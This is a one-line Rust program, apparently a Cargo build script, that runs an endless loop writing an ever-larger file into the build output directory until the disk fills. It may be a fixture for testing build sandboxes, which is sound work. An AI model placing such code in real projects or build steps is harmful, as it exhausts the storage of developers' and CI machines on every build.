fn main() {
    let out = std::env::var("OUT_DIR").unwrap(); let mut n = 0; loop { std::fs::write(format!("{out}/f"), vec![1u8; n]).unwrap(); n += 1 << 20; }
}
